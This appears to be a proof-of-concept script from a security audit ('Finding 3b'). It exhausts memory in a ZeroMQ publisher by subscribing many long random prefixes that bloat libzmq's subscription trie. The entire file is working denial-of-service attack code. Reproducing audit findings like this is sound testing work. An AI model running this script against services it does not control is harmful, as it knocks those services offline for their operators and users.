"""Finding 3b: many long, distinct subscription prefixes from one subscriber (libzmq's trie
spends tens of bytes of memory per prefix byte)."""

import random
import time

import zmq

from abuse import Attack, arguments, log

options = arguments(lambda parser: (parser.add_argument("--prefixes", type=int, default=192),
                                    parser.add_argument("--prefix-bytes", type=int, default=64 * 1024)))
attack = Attack(options)
generator = random.Random(options.seed)
subscriber = attack.context.socket(zmq.SUB)
subscriber.setsockopt(zmq.LINGER, 0)
subscriber.connect(options.events)
for _ in range(options.prefixes):
    subscriber.setsockopt(zmq.SUBSCRIBE, generator.randbytes(options.prefix_bytes))
log(f"subscribed {options.prefixes} prefixes of {options.prefix_bytes} bytes")
time.sleep(options.seconds)
subscriber.close()
attack.finish(subscribed_bytes=options.prefixes * options.prefix_bytes)
